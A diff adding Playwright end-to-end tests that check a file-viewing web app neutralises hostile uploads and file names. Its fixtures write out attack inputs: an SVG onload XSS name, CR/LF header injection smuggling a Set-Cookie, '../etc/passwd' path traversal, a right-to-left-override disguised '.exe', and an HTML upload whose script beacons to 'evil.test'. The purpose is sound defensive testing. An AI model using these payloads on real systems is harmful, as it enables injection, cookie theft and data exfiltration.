@@ -2,6 +2,8 @@ import { createHash } from "node:crypto";
 import { readFile } from "node:fs/promises";
 import { expect, test, type BrowserContext, type Page } from "@playwright/test";
 import { FileDetail } from "@/lib/schemas/files";
+import { LONG_LOG_LAST_LINE } from "@/lib/simulator/dataset/file-bytes";
+import { SMALL_SEED_1_ARTIFACTS, SMALL_SEED_1_PREVIEW_CORPUS } from "./support/simulator-ids";
 import { database, seedSession, SESSION_COOKIE, stackInfo } from "./support/stack";
 
 /** Chats and files of the `small` dataset, seed 1 (lib/simulator/dataset/fixtures.ts). */
@@ -19,6 +21,11 @@ const UPLOADED = {
 const HOSTILE_SVG = "claude_file_01Aktk5k1CyXBuS86z1xHppg";
 const HOSTILE_MARKDOWN = "claude_file_012qP1TfAAPeq35cBVZDimtN";
 const GENERATED_CSV = "claude_gen_file_01UQcnAQFJ1reUb6HM26mJZQ";
+const { chat: CORPUS_CHAT, files: CORPUS } = SMALL_SEED_1_PREVIEW_CORPUS;
+/** A project with attachments (fixtures projectWithoutChats). */
+const PROJECT_WITH_ATTACHMENTS = SMALL_SEED_1_ARTIFACTS.documentsProject;
+/** The longest name Docket hands a browser, in UTF-8 bytes (lib/server/files/content-disposition.ts). */
+const MAX_SAVED_NAME_BYTES = 150;
 const EXPIRED_GENERATED = "claude_gen_file_01KxScc4xzVNu9GKWkjN1aNg";
 
 /**
@@ -45,6 +52,13 @@ const DOWNLOAD_NAMES: Array<[fileId: string, shown: string, saved: string]> = [
   ["claude_file_01Aktk5k1CyXBuS86z1xHppg", '"><svg onload=window.__xss=1>.svg', "___svg onload=window.__xss=1_.svg"],
   ["claude_file_01ATjXrTrMQjeNmWndJ87Q5Q", "%22encoded%22 %0d%0aSet-Cookie: x=1.csv", "%22encoded%22 %0d%0aSet-Cookie_ x=1.csv"],
   ["claude_file_012qP1TfAAPeq35cBVZDimtN", "../../../../etc/passwd", "passwd"],
+  // The preview corpus: a line break and a right-to-left mark are written out on the page and dropped from
+  // the saved name; a path keeps its last segment; the trailing dot and space Windows would drop go.
+  [CORPUS.lineBreak, "minutes⟦U+000D⟧⟦U+000A⟧Set-Cookie: docket_session=stolen.txt", "minutesSet-Cookie_ docket_session=stolen.txt"],
+  [CORPUS.rightToLeftMark, "contract⟦U+200F⟧ (signed).pdf", "contract (signed).pdf"],
+  [CORPUS.parentPath, "../../../var/log/../audit.csv", "audit.csv"],
+  [CORPUS.trailingDot, "board minutes.txt.", "board minutes.txt"],
+  [CORPUS.trailingSpace, "budget 2026.csv ", "budget 2026.csv"],
 ];
 
 let subject: string;
@@ -146,6 +160,106 @@ for (const [fileId, shown, saved] of DOWNLOAD_NAMES) {
     ]);
   });
 }
+
+test("a CR/LF in a file name never becomes a header of its own, in the response or in the browser", async ({ page, context }) => {
+  const response = await page.request.get(`/api/files/${CORPUS.lineBreak}/download`, { headers: { cookie: sessionCookie } });
+  expect(response.status()).toBe(200);
+  expect(response.headersArray().filter((header) => header.name.toLowerCase() === "set-cookie")).toEqual([]);
+  expect(response.headers()["content-disposition"]).toBe(
+    `attachment; filename="minutesSet-Cookie_ docket_session=stolen.txt"; filename*=UTF-8''minutesSet-Cookie_%20docket_session%3Dstolen.txt`,
+  );
+  await page.goto(`/files/${CORPUS.lineBreak}`);
+  await expect(page.getByRole("note").filter({ hasText: "invisible or direction-changing characters" })).toBeVisible();
+  expect((await download(page)).suggestedFilename()).toBe("minutesSet-Cookie_ docket_session=stolen.txt");
+  expect((await context.cookies()).map((cookie) => cookie.name)).not.toContain("docket_session");
+});
+
+test("a name of 255 UTF-8 bytes is saved shortened on character boundaries, its extension kept, its bytes verified", async ({ page }) => {
+  const detail = FileDetail.parse(await (await page.request.get(`/api/files/${CORPUS.maxLength}`, { headers: { cookie: sessionCookie } })).json());
+  const original = detail.filename!;
+  expect(Buffer.byteLength(original, "utf8")).toBe(255);
+  await page.goto(`/files/${CORPUS.maxLength}`);
+  await expect(page.getByRole("main").locator("header").getByRole("heading", { level: 1 })).toHaveText(original);
+  const file = await download(page);
+  const saved = file.suggestedFilename();
+  expect(saved).toBe(detail.downloadName);
+  expect(saved.endsWith(".txt")).toBe(true);
+  expect(Buffer.byteLength(saved, "utf8")).toBeLessThanOrEqual(MAX_SAVED_NAME_BYTES);
+  // Cut where a whole character ends, and no further than the next one would need.
+  expect(Buffer.byteLength(saved, "utf8")).toBeGreaterThan(MAX_SAVED_NAME_BYTES - 4);
+  expect(original.startsWith(saved.slice(0, -".txt".length))).toBe(true);
+  expect(createHash("md5").update(await readFile((await file.path())!)).digest("hex")).toBe(detail.recordedMd5);
+  await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
+});
+
+test("JPEG, GIF and WebP uploads preview as images; a log past 256 KiB is cut with a notice", async ({ page }) => {
+  const dialogs = forbidDialogs(page);
+  for (const fileId of [CORPUS.jpeg, CORPUS.gif, CORPUS.webp]) {
+    await page.goto(`/files/${fileId}`);
+    await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
+    const image = page.getByRole("img", { name: /^Preview of / });
+    await expect(image).toBeVisible();
+    expect(await image.evaluate((element: HTMLImageElement) => element.complete && element.naturalWidth > 0)).toBe(true);
+  }
+
+  await page.goto(`/files/${CORPUS.longText}`);
+  const preview = page.getByRole("region", { name: "Preview" });
+  await expect(preview).toContainText(/Showing the first 256\.0 KiB \(262,144 bytes\) of .* Download the file for the rest\./);
+  await expect(page.getByTestId("text-preview")).toContainText("INFO request 000001");
+  await expect(page.getByTestId("text-preview")).not.toContainText(LONG_LOG_LAST_LINE);
+  expect(dialogs).toEqual([]);
+});
+
+test("an HTML upload shows as source and a PDF with a JavaScript OpenAction as a download only: neither runs on the app origin", async ({ page, baseURL }) => {
+  const dialogs = forbidDialogs(page);
+  const offOrigin: string[] = [];
+  page.on("request", (request) => {
+    if (new URL(request.url()).origin !== new URL(baseURL!).origin) offOrigin.push(request.url());
+  });
+  await page.goto(`/files/${CORPUS.html}`);
+  await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
+  await expect(page.getByTestId("text-preview")).toContainText('<script>window.__xss=1;navigator.sendBeacon("https://evil.test/html-upload")</script>');
+  await expect(page.locator("main script, main iframe, main img, main embed, main object")).toHaveCount(0);
+  const html = await page.request.get(`/api/files/${CORPUS.html}/download`, { headers: { cookie: sessionCookie } });
+  expect(html.headers()).toMatchObject({ "content-type": "application/octet-stream", "x-content-type-options": "nosniff", "content-security-policy": "sandbox; default-src 'none'" });
+
+  await page.goto(`/files/${CORPUS.pdfWithJavaScript}`);
+  await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
+  await expect(page.getByRole("region", { name: "Preview" })).toContainText("PDF files can carry scripts");
+  await expect(page.locator("iframe, embed, object")).toHaveCount(0);
+  const pdf = await download(page);
+  expect(pdf.suggestedFilename()).toBe("form (fill in).pdf");
+  await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
+
+  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
+  expect(offOrigin).toEqual([]);
+  expect(dialogs).toEqual([]);
+});
+
+test("the thread's file chips write out hidden and direction-changing characters in names", async ({ page }) => {
+  await page.goto(`/chats/${CORPUS_CHAT}`);
+  await expect(page.getByRole("link", { name: "File: minutes⟦U+000D⟧⟦U+000A⟧Set-Cookie: docket_session=stolen.txt" })).toHaveAttribute("href", `/files/${CORPUS.lineBreak}`);
+  await expect(page.getByRole("link", { name: "File: contract⟦U+200F⟧ (signed).pdf" })).toHaveAttribute("href", `/files/${CORPUS.rightToLeftMark}`);
+  await expect(page.getByRole("link", { name: "Artifact: Approval stamp" }).first()).toBeVisible();
+  const chipTexts = await page.getByRole("list", { name: "Attachments" }).evaluateAll((lists) => lists.map((list) => list.textContent ?? ""));
+  expect(chipTexts.length).toBeGreaterThan(0);
+  expect(chipTexts.filter((text) => /[\u0000-\u001f\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(text))).toEqual([]);
+});
+
+test("a project attachment's hidden and direction-changing characters are written out", async ({ page }) => {
+  const projectPath = `/api/projects/${PROJECT_WITH_ATTACHMENTS}`;
+  // No project of the dataset has such a name, so one is given one in the response the page reads.
+  await page.route(`**${projectPath}`, async (route) => {
+    const response = await route.fetch();
+    const detail = (await response.json()) as { attachments: Array<{ filename: string | null }> };
+    detail.attachments[0]!.filename = "invoice\u202Efdp.exe";
+    await route.fulfill({ response, json: detail });
+  });
+  await page.goto(`/projects/${PROJECT_WITH_ATTACHMENTS}`);
+  const attachments = page.getByRole("region", { name: "Attachments" });
+  await expect(attachments.getByText("invoice⟦U+202E⟧fdp.exe", { exact: true })).toBeVisible();
+  expect(await attachments.evaluate((region) => /\u202E/.test(region.textContent ?? ""))).toBe(false);
+});
 
 test("an MD5 mismatch injected upstream raises the alarm, stops the download and is audited", async ({ page }) => {
   const fileId = UPLOADED.docx;
